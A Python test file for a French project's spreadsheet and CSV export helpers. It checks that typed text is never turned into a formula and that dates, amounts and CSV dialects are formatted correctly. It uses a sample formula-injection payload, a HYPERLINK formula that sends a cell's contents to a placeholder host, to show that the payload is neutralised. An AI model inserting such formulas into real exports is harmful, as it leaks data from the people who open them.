"""The one rule of every tabular export: what people typed is text, never a formula."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from odf.opendocument import OpenDocumentSpreadsheet, load
from odf.table import Table, TableCell, TableRow
from odf.teletype import extractText
from openpyxl import Workbook, load_workbook

from pilotactions.core.tabular import (
    AMOUNT,
    DATE,
    DATETIME,
    INTEGER,
    MACHINE_CSV,
    NUMBER,
    PEOPLE_CSV,
    Column,
    csv_safe,
    csv_safe_row,
    csv_stream,
    csv_value,
    ods_text_cell,
    people_download,
    xlsx_cell,
    xlsx_people_write,
    xlsx_row,
    xlsx_text,
)

FORMULA = '=HYPERLINK("http://exemple.invalid/?"&B2,"Voir")'


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=", "-"])
def test_csv_text_starting_with_a_formula_character_is_neutralised(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Aide alimentaire", "", " =1", "'=1", "1-2", None, 0, -12, -1.5, Decimal("-3.20")])
def test_csv_other_values_and_real_numbers_are_left_alone(value):
    assert csv_safe(value) == value
    assert csv_safe_row(["=1", value]) == ["'=1", value]


def _reopened(workbook) -> Workbook:
    output = io.BytesIO()
    workbook.save(output)
    return load_workbook(io.BytesIO(output.getvalue()))


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_text_is_a_string_cell_and_numbers_stay_numbers(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("Feuille")
    sheet.append(xlsx_row(sheet, [FORMULA, "#N/A", -12, Decimal("-3.5"), None, "", "texte"]))
    row = next(_reopened(workbook)["Feuille"].iter_rows())
    assert [(c.value, c.data_type) for c in row[:4]] == [(FORMULA, "s"), ("#N/A", "s"), (-12, "n"), (-3.5, "n")]
    assert row[6].value == "texte"


def test_xlsx_text_on_a_cell_of_a_regular_sheet():
    workbook = Workbook()
    sheet = workbook.active
    assert sheet.cell(row=1, column=1, value="=1+1").data_type == "f"  # what openpyxl does on its own
    xlsx_text(sheet.cell(row=1, column=1))
    xlsx_text(sheet.cell(row=1, column=2, value=7))
    cells = _reopened(workbook).active
    assert (cells["A1"].value, cells["A1"].data_type) == ("=1+1", "s")
    assert (cells["B1"].value, cells["B1"].data_type) == (7, "n")
    assert xlsx_cell(sheet, "=2").data_type == "s"


def test_ods_text_cell_is_a_string_and_never_a_formula():
    doc = OpenDocumentSpreadsheet()
    table = Table(name="Feuille")
    row = TableRow()
    row.addElement(ods_text_cell(FORMULA))
    row.addElement(ods_text_cell(""))
    row.addElement(ods_text_cell("Lien", href="#'Feuille'.A1"))
    table.addElement(row)
    doc.spreadsheet.addElement(table)
    output = io.BytesIO()
    doc.save(output)
    cells = load(io.BytesIO(output.getvalue())).spreadsheet.getElementsByType(TableCell)
    assert cells[0].getAttribute("valuetype") == "string" and cells[0].getAttribute("formula") is None
    assert extractText(cells[0]) == FORMULA
    assert cells[1].getAttribute("valuetype") is None
    assert extractText(cells[2]) == "Lien"


# --- The two CSV dialects and the spreadsheet for people ----------------------------------------------------

ROW = ["Aide alimentaire", FORMULA, -12, Decimal("1234.50"), 386.87, date(2024, 3, 1), None, True]


def test_the_people_csv_opens_in_french_excel():
    lines = list(csv_stream(["Intitulé", "Montant (€)"], [ROW]))
    assert lines[0] == "\ufeffIntitulé;Montant (€)\n"  # UTF-8 with a BOM, `;` between fields
    text = "".join(lines).encode("utf-8")
    assert text.startswith(b"\xef\xbb\xbf")
    row = next(csv.reader(io.StringIO(lines[1]), delimiter=";"))
    assert row == ["Aide alimentaire", "'" + FORMULA, "-12", "1234,50", "386,87", "01/03/2024", "", "oui"]


def test_the_machine_csv_is_the_documented_format():
    lines = list(csv_stream(["title", "amount"], [ROW], dialect=MACHINE_CSV))
    assert lines[0] == "title,amount\n"  # no BOM, comma
    row = next(csv.reader(io.StringIO(lines[1])))
    assert row == ["Aide alimentaire", "'" + FORMULA, "-12", "1234.50", "386.87", "2024-03-01", "", "oui"]


def test_a_local_time_in_both_dialects():
    moment = datetime(2024, 1, 15, 9, 30, 12, tzinfo=UTC)  # 10:30 in Paris
    assert csv_value(moment, PEOPLE_CSV) == "15/01/2024 10:30"
    assert csv_value(moment, MACHINE_CSV) == "2024-01-15 10:30"
    assert csv_value(Decimal("1E+3"), PEOPLE_CSV) == "1000"  # never an exponent


COLUMNS = [
    Column("Intitulé", width=50),
    Column("Bénéficiaires visés", INTEGER),
    Column("Date de début", DATE),
    Column("Crédits (€)", AMOUNT),
    Column("Soumis le", DATETIME),
    Column("Taux (%)", NUMBER),
]


def _people_workbook(rows, **options):
    output = io.BytesIO()
    counts = xlsx_people_write(output, ("Actions", COLUMNS, rows, *options.get("preamble", [])))
    return counts, load_workbook(io.BytesIO(output.getvalue()))["Actions"]


def test_the_people_xlsx_has_typed_cells_a_frozen_bold_header_and_filters():
    moment = datetime(2024, 1, 15, 9, 30, tzinfo=UTC)
    rows = [
        [FORMULA, 1200, date(2024, 3, 1), Decimal("1234.5"), moment, 45.5],
        ["Sans montant", None, None, None, None, None],
    ]
    counts, sheet = _people_workbook(iter(rows))
    assert counts == [2]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:F3"
    assert [c.value for c in sheet[1]] == [c.label for c in COLUMNS] and all(c.font.b for c in sheet[1])
    text, target, start, amount, submitted, rate = sheet[2]
    assert (text.value, text.data_type) == (FORMULA, "s")  # typed text is never a formula
    assert (target.value, target.data_type, target.number_format) == (1200, "n", "#,##0")
    assert start.is_date and start.value == datetime(2024, 3, 1) and start.number_format == "dd/mm/yyyy"
    assert (amount.value, amount.data_type, amount.number_format) == (1234.5, "n", '#,##0.00 "€"')
    assert submitted.is_date and submitted.value == datetime(2024, 1, 15, 10, 30)  # Paris time, Excel has no zone
    assert submitted.number_format == "dd/mm/yyyy hh:mm"
    assert (rate.value, rate.number_format) == (45.5, "General")
    assert [c.value for c in sheet[3]] == ["Sans montant", None, None, None, None, None]
    assert sheet.column_dimensions["A"].width == 50 and sheet.column_dimensions["D"].width == 16


def test_the_people_xlsx_with_title_lines_and_without_rows():
    counts, sheet = _people_workbook([], preamble=[["Tableau de bord", "Taux de réalisation en 2024"]])
    assert counts == [0]
    assert sheet["A1"].value == "Tableau de bord" and sheet["A1"].font.b and sheet["A2"].value.endswith("2024")
    assert sheet.freeze_panes == "A4" and sheet.auto_filter.ref == "A3:F3"
    assert sheet["A3"].value == "Intitulé"


def test_a_people_download_answers_csv_and_xlsx_only():
    from django.http import Http404

    rows = [["Aide", 3, date(2024, 3, 1), Decimal("10.00"), None, None]]
    response = people_download(COLUMNS, iter(rows), extension="csv", filename="f", sheet_title="Actions")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="f.csv"'
    assert b"".join(response.streaming_content).decode("utf-8") == (
        "\ufeffIntitulé;Bénéficiaires visés;Date de début;Crédits (€);Soumis le;Taux (%)\nAide;3;01/03/2024;10,00;;\n"
    )
    response = people_download(COLUMNS, iter(rows), extension="xlsx", filename="f", sheet_title="Actions")
    content = b"".join(response.streaming_content)
    response.file_to_stream.close()  # the temporary file (response.close() would signal a request's end)
    assert response["Content-Disposition"] == 'attachment; filename="f.xlsx"'
    assert [c.value for c in load_workbook(io.BytesIO(content))["Actions"][2]][:4] == [
        "Aide",
        3,
        datetime(2024, 3, 1),
        10,
    ]
    with pytest.raises(Http404):
        people_download(COLUMNS, rows, extension="ods", filename="f", sheet_title="Actions")
